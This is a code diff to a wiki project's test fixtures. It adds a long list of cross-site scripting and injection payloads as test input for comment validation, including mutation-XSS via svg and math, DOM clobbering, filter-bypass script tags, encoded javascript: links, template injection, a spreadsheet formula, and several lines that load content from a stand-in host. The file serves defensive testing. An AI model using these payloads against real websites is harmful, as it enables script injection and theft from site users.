@@ -1,3 +1,7 @@
+import { documentOf } from '@wiki/domain';
+import { addDiscussionCommentSchema } from '@wiki/domain/schemas';
+import naughtyStrings from 'big-list-of-naughty-strings' with { type: 'json' };
+
 /** What tries to become a script, a link or a layout of its own: a line is a text. Written for this project. */
 const vectors = String.raw`
 <script>alert(1)</script>
@@ -82,7 +86,147 @@ true
 👩🏽‍🌾👨‍👩‍👧‍👦🏳️‍🌈 🇨🇴
 Ṱ̺̺o͞ ̷i̲̬n̝̗v̟̜o̘̙k̪̗e̤̜
 ﷺ
+<math><annotation-xml encoding="text/html"><p><style><img src onerror=alert(1)></style></annotation-xml></math>
+<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
+<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>
+<svg><foreignObject><iframe srcdoc="x" onload=alert(1)></iframe></foreignObject></svg>
+<svg><title><img src=x onerror=alert(1)></title></svg>
+<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>
+<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>
+<svg><set attributeName=onmouseover to=alert(1)></svg>
+<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x" />
+<svg><image href=x onerror=alert(1)></svg>
+<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
+<math><mi><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mi></math>
+<math><maction actiontype="statusline#http://x.example" xlink:href="javascript:alert(1)">x</maction></math>
+<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
+<table><td><noembed><img title="</noembed><img src=x onerror=alert(1)>"></td></table>
+<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
+<noframes><p title="</noframes><img src=x onerror=alert(1)>">
+<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
+<option><style></option></select><b><img src=x onerror=alert(1)></style></option>
+<plaintext><img src=x onerror=alert(1)>
+<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
+<a id=x name=y href=1></a><a id=x name=z href=2></a>
+<form id=document><input name=cookie><input name=body></form>
+<form><input name=attributes><input name=nodeName><input name=parentNode></form>
+<img name=getElementById><img name=createElement>
+<form name=implementation><input name=createHTMLDocument></form>
+<a href="#" name="__proto__" id="constructor">x</a>
+<input type=image src=x onerror=alert(1)>
+<isindex type=image src=1 onerror=alert(1)>
+<keygen autofocus onfocus=alert(1)>
+<frameset onload=alert(1)></frameset>
+<layer src="javascript:alert(1)"></layer>
+<bgsound src="javascript:alert(1)">
+<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
+<img src="x <script>alert(1)</script>" >
+<img src=x:alert(alt) onerror=eval(src) alt=0>
+<img srcset="x 1x, javascript:alert(1) 2x" onerror=alert(1)>
+<img/alt="/"src="/"onerror=alert(1)>
+<IMG """><SCRIPT>alert(1)</SCRIPT>">
+<<SCRIPT>alert(1);//<</SCRIPT>
+<scr<script>ipt>alert(1)</scr</script>ipt>
+<script/xss>alert(1)</script/xss>
+<script>alert(1)//
+<script src=data:,alert(1)></script>
+<script type=module>import('data:text/javascript,alert(1)')</script>
+<script>/*<!--*/alert(1)</script>
+<!-- sample --!><img src=x onerror=alert(1)>
+<!--<img src="--><img src=x onerror=alert(1)//">
+<? foo="><script>alert(1)</script>">
+<! foo="><script>alert(1)</script>">
+</ foo="><script>alert(1)</script>">
+<% foo><x foo="%><script>alert(1)</script>">
+<a/onmouseover=alert(1)>x
+<x contenteditable onblur=alert(1)>x</x>
+<x onclick=alert(1) tabindex=0 id=x autofocus onfocus=alert(1)>x
+<div draggable ondragstart=alert(1)>x</div>
+<div popover onbeforetoggle=alert(1) id=p></div><button popovertarget=p>x</button>
+<dialog open oncancel=alert(1)>x</dialog>
+<style>*{x:expression(alert(1))}</style>
+<style>@keyframes x{}</style><p style="animation:x" onanimationstart=alert(1)>x</p>
+<p style="-moz-binding:url(//x.example/x.xml#x);behavior:url(x.htc)">x</p>
+<p style="color:red;position:fixed;inset:0;z-index:99999">x</p>
+<link rel=import href="data:text/html,<script>alert(1)</script>">
+<link rel=preload as=script href=//x.example onload=alert(1)>
+<meta charset="mac-farsi">¼script¾alert(1)¼/script¾
+<meta http-equiv=Content-Security-Policy content="script-src *">
+<base target="<img src=x onerror=alert(1)>">
+<applet code="javascript:alert(1)">
+<param name=url value="javascript:alert(1)">
+<portal src="javascript:alert(1)" onload=alert(1)>
+<slot onslotchange=alert(1)><template shadowrootmode=open><script>alert(1)</script></template>
+<custom-element onconnected=alert(1) is="x-y">x</custom-element>
+<a href="javas&Tab;cri&NewLine;pt:alert(1)">x</a>
+<a href="&#106;&#97;&#118;&#97;&#115;cript:alert(1)">x</a>
+<a href="\u006Aavascript:alert(1)">x</a>
+<a href="vbscript:msgbox(1)">x</a>
+<a href="blob:https://x.example/1">x</a>
+<a href="//x.example" target=_blank rel=opener>x</a>
+<a href="https://user:pass@x.example">x</a>
+<a ping="//x.example" href="/">x</a>
+<area href=javascript:alert(1) shape=default>
+<form><button formaction="data:text/html,<script>alert(1)</script>">x</button></form>
+<output name=x onforminput=alert(1)>x</output>
+<video poster=javascript:alert(1) oncanplay=alert(1)></video>
+<track kind=subtitles src=x onerror=alert(1)>
+<img usemap=#x><map name=x><area href=javascript:alert(1)></map>
+<object type="text/x-scriptlet" data="//x.example"></object>
+<embed code="//x.example/x.swf" allowscriptaccess=always>
+\${{7*7}}
+{{$on.constructor('alert(1)')()}}
+{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//')}}
+<div v-html="'<img src=x onerror=alert(1)>'"></div>
+<div ng-app ng-csp><input ng-focus=$event.view.alert(1)></div>
+<p data-bind="html:'<img src=x onerror=alert(1)>'"></p>
+@import url(//x.example);}*{background:red}
+*/alert(1)/*
+//--></script><script>alert(1)</script>
+\";alert(1);//
+\x3cscript\x3ealert(1)\x3c/script\x3e
++ADw-script+AD4-alert(1)+ADw-/script+AD4-
+%00%3Cscript%3Ealert(1)%3C/script%3E
+＜script＞alert(1)＜/script＞
+‹script›alert(1)‹/script›
+[x]: javascript:alert(1) "x"
+<javascript:alert(1)>
+<https://x.example/" onmouseover="alert(1)>
+BEGIN:VCARD
+=HYPERLINK("//x.example","x")
+@SUM(1+1)
+Subject: x
 `;
 
 /** Each text, once. */
 export const hostileTexts: readonly string[] = vectors.trim().split('\n');
+
+/** The same and those of the big list of naughty strings, as far as they say anything. */
+export const naughtyTexts: readonly string[] = [
+  ...new Set([...hostileTexts, ...naughtyStrings.map((text) => text.trim())]),
+].filter(Boolean);
+
+const isAccepted = (text: string): boolean =>
+  addDiscussionCommentSchema.safeParse({
+    discussionId: 'any',
+    body: documentOf(text),
+    language: 'en',
+  }).success;
+
+/** Those that somebody may write: not what cannot be stored, or reaches over what stands around it. */
+export const acceptedTexts: readonly string[] = naughtyTexts.filter(isAccepted);
+
+/** Texts in parts of up to so many characters together, a few between two texts counted in. */
+export function inParts(texts: readonly string[], most: number): string[][] {
+  const parts: string[][] = [];
+  let size = Infinity;
+  for (const text of texts) {
+    size += text.length + 2;
+    if (size > most) {
+      parts.push([]);
+      size = text.length + 2;
+    }
+    parts.at(-1)?.push(text);
+  }
+  return parts;
+}
